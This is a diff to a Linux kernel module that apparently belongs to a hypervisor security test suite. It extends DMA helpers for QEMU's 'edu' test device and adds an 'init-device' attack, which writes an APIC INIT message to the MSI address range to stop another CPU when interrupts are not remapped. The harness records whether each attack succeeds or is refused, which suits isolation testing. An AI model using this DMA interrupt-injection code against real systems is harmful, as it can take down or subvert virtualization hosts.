@@ -7,9 +7,12 @@
 #include <linux/kernel.h>
 #include <linux/mm.h>
 #include <linux/pci.h>
+#include <linux/smp.h>
+#include <asm/apic.h>
 
 #include "attack.h"
 #include "memory.h"
+#include "resume.h"
 
 #define EDU_VENDOR 0x1234
 #define EDU_DEVICE 0x11e8
@@ -34,34 +37,34 @@ struct edu {
 	u8 *bounce; /* below 16 MiB, which every mask reaches */
 };
 
-static int edu_copy(struct edu *e, u64 from, u64 to, u64 command)
+static int edu_copy(struct edu *e, u64 from, u64 to, u64 count, u64 command)
 {
-	int left = 100;
+	int left = 2000;
 
 	writeq(from, e->bar + EDU_SOURCE);
 	writeq(to, e->bar + EDU_DESTINATION);
-	writeq(WINDOW, e->bar + EDU_COUNT);
+	writeq(count, e->bar + EDU_COUNT);
 	writeq(command | EDU_RUN, e->bar + EDU_COMMAND);
 	while (readq(e->bar + EDU_COMMAND) & EDU_RUN) {
 		if (!left--)
 			return -ETIMEDOUT;
-		msleep(20);
+		mdelay(1);
 	}
 	return 0;
 }
 
-static int edu_read(struct edu *e, u64 pa)
+static int edu_read(struct edu *e, u64 pa, u64 count)
 {
-	int err = edu_copy(e, pa, EDU_BUFFER, 0);
+	int err = edu_copy(e, pa, EDU_BUFFER, count, 0);
 
-	return err ? err : edu_copy(e, EDU_BUFFER, virt_to_phys(e->bounce), EDU_TO_RAM);
+	return err ? err : edu_copy(e, EDU_BUFFER, virt_to_phys(e->bounce), count, EDU_TO_RAM);
 }
 
-static int edu_write(struct edu *e, u64 pa)
+static int edu_write(struct edu *e, u64 pa, u64 count)
 {
-	int err = edu_copy(e, virt_to_phys(e->bounce), EDU_BUFFER, 0);
+	int err = edu_copy(e, virt_to_phys(e->bounce), EDU_BUFFER, count, 0);
 
-	return err ? err : edu_copy(e, EDU_BUFFER, pa, EDU_TO_RAM);
+	return err ? err : edu_copy(e, EDU_BUFFER, pa, count, EDU_TO_RAM);
 }
 
 static int edu_open(struct edu *e)
@@ -108,7 +111,7 @@ static int edu_poke(struct edu *e, struct attempt *t, u8 value)
 {
 	u8 *start = t->va - WINDOW / 2;
 	u64 pa = ((u64)t->pfn << PAGE_SHIFT) + offset_in_page(start);
-	int err = edu_read(e, pa);
+	int err = edu_read(e, pa, WINDOW);
 
 	if (err)
 		return err;
@@ -117,7 +120,7 @@ static int edu_poke(struct edu *e, struct attempt *t, u8 value)
 		return -EFAULT;
 	}
 	e->bounce[WINDOW / 2] = value;
-	return edu_write(e, pa);
+	return edu_write(e, pa, WINDOW);
 }
 
 static int device_poke(struct attempt *t, u8 value)
@@ -147,6 +150,38 @@ static int dma_undo(struct attempt *t)
 	return device_poke(t, t->was);
 }
 
+/* ---- a message that is an interrupt: the address says to whom, the value what ---- */
+
+#define MESSAGES_PA 0xfee00000
+
+static enum attack_outcome send_init(struct attempt *t, struct edu *e, unsigned int victim)
+{
+	int err = resume_hold(victim);
+	bool stopped;
+
+	if (err)
+		return ATTACK_ERROR;
+	*(u32 *)e->bounce = APIC_INT_ASSERT | APIC_DM_INIT;
+	err = edu_write(e, MESSAGES_PA + (cpu_physical_id(victim) << 12), sizeof(u32));
+	stopped = !err && resume_stopped();
+	attack_note(t, "DMA: %d, CPU %u %s", err, victim, stopped ? "is gone" : "runs");
+	err = resume_return(stopped);
+	attack_note(t, ", back in service: %d", err);
+	return stopped ? ATTACK_SUCCEEDED : ATTACK_REFUSED;
+}
+
+static enum attack_outcome init_device(struct attempt *t)
+{
+	struct edu e = { 0 };
+	enum attack_outcome outcome;
+
+	if (num_online_cpus() != 2 || edu_open(&e))
+		return ATTACK_ERROR;
+	outcome = send_init(t, &e, cpumask_last(cpu_online_mask));
+	edu_close(&e);
+	return outcome;
+}
+
 static const struct attack device_attacks[] = {
 	{
 		.name = "dma-text",
@@ -158,6 +193,17 @@ static const struct attack device_attacks[] = {
 		.run = dma_text,
 		.look = memory_look,
 		.undo = dma_undo,
+	},
+	{
+		.name = "init-device",
+		.title = "have a device send INIT to another CPU",
+		.gives = "a CPU that has left the hypervisor",
+		.asset = "restart of a CPU",
+		.reason = "interrupts are not remapped: a device's message reaches any CPU",
+		.control = ATTACK_BARE,
+		.cpus = 2,
+		.own_vm = true,
+		.run = init_device,
 	},
 };
 
